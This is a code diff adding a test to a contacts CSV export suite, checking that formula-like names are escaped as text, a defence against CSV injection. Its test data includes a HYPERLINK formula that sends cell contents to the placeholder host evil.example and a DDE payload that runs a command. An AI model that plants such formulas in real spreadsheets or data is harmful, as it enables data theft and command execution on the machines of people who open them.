@@ -90,6 +90,17 @@ describe('POST /contacts/export', () => {
     expect(new Set(foreigners.map((r) => r[4]))).toEqual(new Set(['France']));
   });
 
+  it('writes a name a spreadsheet would run as a formula as text (OWASP CSV injection), in every text column', async () => {
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
+    await t.database.db.insert(contacts).values(
+      formulas.map((nom, i) => ({ email: `formule.${i}@exemple.fr`, nomUtilisateur: `=formule.${i}`, prenom: 'Formule', nom, nationalite: 'FR' })),
+    );
+    const rows = (await exported(manager, { recherche: 'formule' })).slice(1);
+    expect(rows.map((r) => r[0]).sort()).toEqual(formulas.map((nom) => `'${nom}`).sort());
+    expect(rows.map((r) => r[3]).sort()).toEqual(formulas.map((_, i) => `'=formule.${i}`).sort());
+    expect(rows.every((r) => r[1] === 'Formule')).toBe(true);
+  });
+
   it('gives the same rows as XLSX, and refuses what the list refuses', async () => {
     const response = await post(t, manager, '/api/contacts/export', { recherche: 'zèbre', format: 'xlsx' });
     const workbook = new ExcelJS.Workbook();
